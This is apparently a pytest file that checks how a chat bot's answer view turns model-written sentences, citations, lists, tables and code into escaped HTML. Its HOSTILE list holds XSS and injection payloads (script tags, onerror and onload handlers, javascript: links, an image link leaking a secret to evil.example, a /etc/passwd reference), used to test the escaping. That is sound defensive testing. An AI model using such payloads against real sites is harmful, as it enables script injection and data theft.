"""What a language model wrote, as HTML: what the notes say to each sentence, and nothing that it made up as markup."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape

import pytest

from rag_bot.records import (
    ANSWERED,
    CLOSEST,
    NO_CLAIM,
    PROSE,
    REWORDED,
    SUPPORTED,
    UNSUPPORTED,
    Answer,
    Citation,
    Quote,
    Sentence,
    Usage,
    marks_words,
)
from rag_bot.ui.chat.answer_view import growing_prose, prose, share_words, whole_answer

QUOTE = Quote("The night tram leaves at two.", "n/trams.md", "Trams", (), (), 0, 29, 3, 4, 0.9)
HOSTILE = (
    '<img src=x onerror="alert(1)">',
    "![leak](https://evil.example/?q=secret)",
    "[click](javascript:alert(1)) and <https://evil.example> and https://evil.example",
    "</span></p></div><script>alert(1)</script>",
    '<a href="#" data-note="/etc/passwd" data-start="1">1</a>',
    '" onmouseover="alert(1)',
    "&lt;b&gt; ${process.env} {{this}}",
    "<!-- --><svg/onload=alert(1)>",
)


def answer(*sentences: Sentence, **more: object) -> Answer:
    made = Answer("q", "", (Citation(1, QUOTE),), ANSWERED, 0.9, PROSE, sentences, (), {"total": 900.0}, model="m")
    return replace(made, **more)  # type: ignore[arg-type]


def text_of(html: str) -> str:
    return unescape(re.sub(r"<[^>]+>", "", html))


def tags(html: str) -> list[str]:
    return re.findall(r"<(\w+)", html)


def test_sentences_flow_with_their_numbers_which_open_the_note_at_the_cited_lines() -> None:
    html = prose(answer(Sentence("One.", (1,)), Sentence("Two.", (1,), before=" ")))
    assert text_of(html) == "One.1 Two.1"
    assert tags(html).count("p") == 1
    assert html.count('data-note="n/trams.md" data-start="3" data-end="4"') == 2
    assert 'aria-label="Citation 1: show it in the note"' in html


def test_a_citation_that_is_not_there_is_no_link() -> None:
    assert "<a" not in prose(answer(Sentence("One.", (7,))))


def test_what_parts_the_sentences_makes_paragraphs_lines_and_lists() -> None:
    befores = ("", "\n\n", "\n- ", "\n- ", " ", "\n\n", "\n3. ", "\n4. ", "\n\n", "\n")
    html = prose(answer(*(Sentence(f"s{n}.", (), before=before) for n, before in enumerate(befores))))
    shape = re.sub(r"<(\w+)[^>]*>", r"<\1>", re.sub(r"</?span[^>]*>", "", html))
    assert shape == (
        "<div><p>s0.</p><p>s1.</p><ul><li>s2.</li><li>s3. s4.</li></ul><p>s5.</p>"
        "<ol><li>s6.</li><li>s7.</li></ol><p>s8.<br>s9.</p></div>"
    )
    assert '<ol start="3">' in html


def test_an_answer_may_begin_with_a_list() -> None:
    assert tags(prose(answer(Sentence("One.", (), before="\n* "))))[:3] == ["div", "ul", "li"]


@pytest.mark.parametrize(
    ("support", "label"), [(UNSUPPORTED, "not in these lines"), (REWORDED, "in the model's words")]
)
def test_a_sentence_that_the_notes_do_not_support_says_so_in_words_with_its_reasons(support: str, label: str) -> None:
    html = prose(answer(Sentence("It leaves at 3.", (), support, ("3 is not in the cited lines", "Really?"))))
    assert text_of(html) == f"It leaves at 3. {label}3 is not in the cited lines.Really?"
    assert 'role="note"' in html
    assert 'tabindex="0"' in html


def test_reworded_sentences_keep_their_numbers_and_only_one_that_is_not_there_warns() -> None:
    html = prose(answer(Sentence("It runs late.", (1,), REWORDED)))
    assert text_of(html) == "It runs late.1 in the model's words"
    assert "unsupported" not in html
    assert "tabindex" not in html  # there is nothing behind it to be shown


@pytest.mark.parametrize("support", [SUPPORTED, NO_CLAIM, REWORDED, UNSUPPORTED])
def test_an_answer_with_marks_says_what_they_mean(support: str) -> None:
    one = answer(Sentence("It leaves at 3.", (), support))
    meaning = marks_words(one)
    assert bool(meaning) == (support in (REWORDED, UNSUPPORTED))
    assert ("What the marks mean" in whole_answer(one, ())) == bool(meaning)
    assert meaning in text_of(whole_answer(one, ()))


@pytest.mark.parametrize("support", [SUPPORTED, NO_CLAIM])
def test_a_sentence_that_needs_no_mark_has_none(support: str) -> None:
    assert "doubt" not in prose(answer(Sentence("Your notes say:", (), support, ("beside the point",))))


def test_what_is_not_checked_yet_says_so_and_comes_last() -> None:
    html = growing_prose(answer(Sentence("One.", (1,)), draft=" and then "))
    assert 'aria-busy="true"' in html
    assert text_of(html).startswith("One.1and then being checked")
    assert "being checked" not in whole_answer(answer(Sentence("One.", (1,))), ())


def test_before_the_first_word_it_says_who_reads() -> None:
    assert text_of(growing_prose(answer())).strip() == "m is reading"


def test_a_whole_answer_says_who_wrote_it_how_much_is_supported_and_shows_the_cited_lines() -> None:
    sentences = (Sentence("Here:", (), NO_CLAIM), Sentence("One.", (1,)), Sentence("Two.", (), UNSUPPORTED))
    html = whole_answer(answer(*sentences, usage=Usage(1200, 34), notice="Stopped."), ())
    said = text_of(html)
    assert (
        "Written by m, each sentence checked against your notes: 2 sentences: 1 in their words, 1 not in these lines"
        in said
    )
    assert "The night tram leaves at two." in said
    assert said.startswith("Stopped.")
    assert "1,200 tokens read, 34 written" in html


def test_sentences_about_lines_that_may_not_answer_have_that_said_above_them() -> None:
    near = answer(Sentence("One.", (1,)), verdict=CLOSEST)
    for html in (whole_answer(near, ()), growing_prose(near)):
        assert text_of(html).index("may not answer it") < text_of(html).index("One.")


@pytest.mark.parametrize(
    ("supports", "words"),
    [
        ((), "no sentence claims anything"),
        ((NO_CLAIM,), "no sentence claims anything"),
        ((SUPPORTED,), "1 sentence: 1 in their words"),
        ((SUPPORTED, NO_CLAIM, SUPPORTED), "2 sentences: 2 in their words"),
        (
            (SUPPORTED, REWORDED, UNSUPPORTED),
            "3 sentences: 1 in their words, 1 in the model's words, 1 not in these lines",
        ),
        ((UNSUPPORTED,), "1 sentence: 1 not in these lines"),
        ((SUPPORTED, REWORDED), "2 sentences: 1 in their words, 1 in the model's words"),
    ],
)
def test_the_share_counts_sentences_that_claim_something(supports: tuple[str, ...], words: str) -> None:
    assert share_words(answer(*(Sentence("s", (), support) for support in supports))) == words


def _whole(one: Answer) -> str:
    return whole_answer(one, ())


def _growing(one: Answer) -> str:
    return growing_prose(replace(one, draft=one.model))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_a_model_writes_becomes_a_link_an_image_or_html(hostile: str) -> None:
    sentences = (
        Sentence(hostile, (1,), REWORDED, (hostile,)),
        Sentence(hostile, (), NO_CLAIM, before=f"\n\n{hostile}\n- "),
    )
    calm = (Sentence("x", (1,), REWORDED, ("x",)), Sentence("x", (), NO_CLAIM, before="\n\nx\n- "))
    more = {"model": hostile, "notice": hostile, "searched_for": hostile}
    for make in (_whole, _growing):
        html = make(answer(*sentences, **more))
        assert tags(html) == tags(make(answer(*calm, model="x", notice="x", searched_for="x")))
        assert not re.search(r"<[^>]* on\w+=", re.sub(r'"[^"]*"', "", html))
        assert set(re.findall(r'(?:href|src)="([^"]*)"', html)) == {"#"}
        assert set(re.findall(r'data-note="([^"]*)"', html)) == {"n/trams.md"}


ROWS = (
    Sentence("| Model | Size | Note |", (), NO_CLAIM, before="\n\n"),
    Sentence("| PaLM | 540 B | Large.", (1,), before="\n"),
    Sentence("Very large |", (), UNSUPPORTED, ("no line says this",), " "),
    Sentence("| GPT-3 |  | <b>x</b> | y.", (), UNSUPPORTED, before="\n"),
)


def shape_of(html: str) -> str:
    """The HTML without what is inside the cells and lines."""
    html = re.sub(r"</?(?:span|a)[^>]*>", "", html)
    return re.sub(r"<(/?\w+)(?:[^>]*? role=\"(\w+)\")?[^>]*>", lambda tag: f"<{tag[2] or tag[1]}>", html)


def test_a_table_has_rows_of_cells_and_each_sentence_keeps_its_marks() -> None:
    html = prose(answer(Sentence("See:", (), NO_CLAIM), *ROWS, Sentence("Done.", (1,), before="\n\n")))
    assert shape_of(html) == (
        "<div><p>See:</p><table>"
        "<row><columnheader>Model</div><columnheader>Size</div><columnheader>Note</div></div>"
        "<row><cell>PaLM</div><cell>540 B</div>"
        "<cell>Large.1 Very large not in these linesno line says this.</div></div>"
        "<row><cell>GPT-3</div><cell></div><cell>&lt;b&gt;x&lt;/b&gt; | y. not in these lines</div></div></div>"
        "<p>Done.1</p></div>"
    )
    assert html.count('class="sentence unsupported"') == 4


@pytest.mark.parametrize("rows", [ROWS[:1], (Sentence("|x| is 1.", ()), Sentence("|y| is 2.", (), before="\n"))])
def test_a_line_with_bars_in_it_is_no_table(rows: tuple[Sentence, ...]) -> None:
    html = prose(answer(*rows))
    assert 'role="table"' not in html
    assert text_of(html).startswith(rows[0].text)


def test_code_is_shown_line_by_line_as_far_in_as_it_was_written() -> None:
    befores = ("", "\n\n    ", "\n        ", "\n    \t", "\n\n")
    html = prose(answer(*(Sentence(f"s{n} <b>|", (1,), before=before) for n, before in enumerate(befores))))
    assert shape_of(html) == (
        "<div><p>s0 &lt;b&gt;|1</p><group>"
        "<div>s1 &lt;b&gt;|1</div><div>    s2 &lt;b&gt;|1</div><div>\ts3 &lt;b&gt;|1</div></div>"
        "<p>s4 &lt;b&gt;|1</p></div>"
    )
